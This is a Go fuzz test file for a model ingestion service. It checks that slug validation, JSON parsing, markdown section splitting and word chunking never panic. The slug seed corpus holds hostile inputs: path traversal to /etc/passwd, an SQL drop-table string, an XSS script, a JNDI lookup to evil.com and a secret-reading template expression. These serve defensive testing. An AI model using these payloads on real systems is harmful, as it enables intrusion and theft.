// Package security provides fuzz tests for the model ingestion service's
// input handling. The primary invariant is that no input should cause a
// panic in JSON parsing, slug validation, or document splitting.
package security

import (
	"encoding/json"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/simhub/model-ingestion-service/internal/docconv"
	"github.com/simhub/model-ingestion-service/internal/textutil"
)

// startIngestRequest mirrors the HTTP handler's request struct for fuzz
// testing without importing the internal httpserver package.
type startIngestRequest struct {
	ModelID          string `json:"model_id"`
	ModelSlug        string `json:"model_slug"`
	OriginalFilePath string `json:"original_file_path"`
	MetadataJSONPath string `json:"metadata_json_path"`
	CodeFolderPath   string `json:"code_folder_path,omitempty"`
}

// slugPattern matches the constant in the HTTP handler package.
var slugPattern = regexp.MustCompile(`^[a-z0-9]+(-[a-z0-9]+)*$`)

// FuzzIngestRequestSlug tests that arbitrary input to the slug field never
// causes a panic during JSON encoding/decoding or slug validation, and that
// anything the validator accepts is safe to embed in workflow ids and
// object names.
func FuzzIngestRequestSlug(f *testing.F) {
	seeds := []string{
		// Valid slugs
		"predator-prey",
		"model-1",
		"a",

		// Path traversal via the slug, which ends up in object names
		"../../etc/passwd",
		"..\\..\\windows\\system32",
		"slug/../../other",
		"slug/nested",

		// Injection payloads
		"'; DROP TABLE models; --",
		"<script>alert('xss')</script>",
		"${jndi:ldap://evil.com/a}",
		"{{.Env.SECRET}}",

		// Null bytes and control characters
		"slug\x00with\x00nulls",
		"slug\nwith\nnewlines",
		"\x00\x01\x02\x03",

		// Unicode edge cases
		"",
		"\u200B", // zero-width space
		"\uFEFF", // BOM
		"\U0001F4A9",
		"Sch\u00f6dinger",
		"\u202Eright-to-left\u202C",
		string([]byte{0xfe, 0xff}),

		// Shape edge cases
		"-leading-dash",
		"trailing-dash-",
		"double--dash",
		"UPPERCASE",
		strings.Repeat("a", 10000),
		strings.Repeat("a-", 5000),
	}

	for _, seed := range seeds {
		f.Add(seed)
	}

	f.Fuzz(func(t *testing.T, slug string) {
		// Invariant 1: JSON round-trip must never panic, and valid UTF-8
		// must survive unchanged.
		req := startIngestRequest{ModelSlug: slug}
		encoded, err := json.Marshal(req)
		if err != nil {
			return
		}
		var decoded startIngestRequest
		if err := json.Unmarshal(encoded, &decoded); err != nil {
			return
		}
		if utf8.ValidString(slug) && decoded.ModelSlug != slug {
			t.Errorf("JSON round-trip changed valid UTF-8 slug:\n  original: %q\n  decoded:  %q", slug, decoded.ModelSlug)
		}

		// Invariant 2: slug validation must never panic, and anything it
		// accepts contains no path separators, dots or control characters.
		if slugPattern.MatchString(slug) {
			if strings.ContainsAny(slug, "/\\.\x00\n\r\t") {
				t.Errorf("slug pattern accepted unsafe slug %q", slug)
			}
		}
	})
}

// FuzzJSONPayload tests that arbitrary bytes sent as a JSON request body
// never cause a panic in the JSON unmarshaling path.
func FuzzJSONPayload(f *testing.F) {
	f.Add([]byte(`{"model_id":"m","model_slug":"s","original_file_path":"/a","metadata_json_path":"/b"}`))
	f.Add([]byte(`{}`))
	f.Add([]byte(`{"model_slug":""}`))
	f.Add([]byte(`{"model_slug":null}`))
	f.Add([]byte(`{"model_slug":123}`))
	f.Add([]byte(`{"model_slug":true}`))
	f.Add([]byte(`{"model_slug":[]}`))
	f.Add([]byte(`not json at all`))
	f.Add([]byte{0x00})
	f.Add([]byte{0xff, 0xfe})
	f.Add([]byte(`{"model_slug": "` + strings.Repeat("a", 100000) + `"}`))
	f.Add([]byte(`{` + strings.Repeat(`"k":`, 100) + `"v"}`))

	f.Fuzz(func(t *testing.T, data []byte) {
		// Invariant: Unmarshal must never panic regardless of input.
		var req startIngestRequest
		_ = json.Unmarshal(data, &req)

		// If we got a slug, validating it must not panic either.
		if req.ModelSlug != "" {
			_ = slugPattern.MatchString(strings.TrimSpace(req.ModelSlug))
		}
	})
}

// FuzzSplitIntoSections tests that arbitrary markdown never causes a panic
// in the section splitter, and that the produced arena is structurally
// sound: parent links resolve and a child's level is its parent's plus one.
func FuzzSplitIntoSections(f *testing.F) {
	seeds := []string{
		"# Title\n\nSome content.\n\n## Child\n\nMore content.\n",
		"no headings at all",
		"",
		"# \n## \n### \n",
		"###### Deep heading first\n# Shallow after\n",
		"# A\n### Skipped level\n# B\n## Child of B\n",
		strings.Repeat("# h\n", 1000),
		"# Unicode \U0001F4A9\n\nSch\u00f6dinger content \u202E\n",
		"# Title\x00with\x00nulls\n\ncontent\x00\n",
		string([]byte{0xfe, 0xff, '\n', '#', ' ', 'x'}),
		"```\n# heading inside code fence\n```\n# real heading\n",
		strings.Repeat("a ", 5000),
	}
	for _, seed := range seeds {
		f.Add(seed)
	}

	f.Fuzz(func(t *testing.T, markdown string) {
		sections, err := docconv.SplitIntoSections("fuzz-doc", []byte(markdown), docconv.SplitOptions{
			ChunkSize:    50,
			ChunkOverlap: 10,
		})
		if err != nil {
			return
		}

		byID := make(map[string]int, len(sections))
		for i, section := range sections {
			byID[section.ID] = i
		}
		for _, section := range sections {
			if section.Level < 1 {
				t.Errorf("section %q has level %d", section.ID, section.Level)
			}
			if section.ParentID == "" {
				continue
			}
			parentIdx, ok := byID[section.ParentID]
			if !ok {
				t.Errorf("section %q has dangling parent %q", section.ID, section.ParentID)
				continue
			}
			if sections[parentIdx].Level+1 != section.Level {
				t.Errorf("section %q level %d, parent level %d", section.ID, section.Level, sections[parentIdx].Level)
			}
		}
	})
}

// FuzzChunkWords tests that the sliding-window chunker never panics and
// never loses words: the concatenation of all chunks must contain every
// word of the input.
func FuzzChunkWords(f *testing.F) {
	f.Add("one two three four five", 2, 1)
	f.Add("", 10, 2)
	f.Add("single", 1, 0)
	f.Add(strings.Repeat("word ", 10000), 100, 20)
	f.Add("\u202Ertl\u202C text \U0001F4A9", 3, 1)
	f.Add("a b c", 0, 0)
	f.Add("a b c", -5, -3)
	f.Add("a b c", 2, 5)

	f.Fuzz(func(t *testing.T, text string, size, overlap int) {
		chunks := textutil.ChunkWords(text, size, overlap)

		wantWords := len(strings.Fields(text))
		if wantWords == 0 {
			if len(chunks) != 0 {
				t.Errorf("empty input produced %d chunks", len(chunks))
			}
			return
		}

		seen := 0
		for _, chunk := range chunks {
			if chunk == "" {
				t.Error("chunker produced an empty chunk")
			}
			seen += len(strings.Fields(chunk))
		}
		if seen < wantWords {
			t.Errorf("chunks cover %d words, input has %d", seen, wantWords)
		}
	})
}
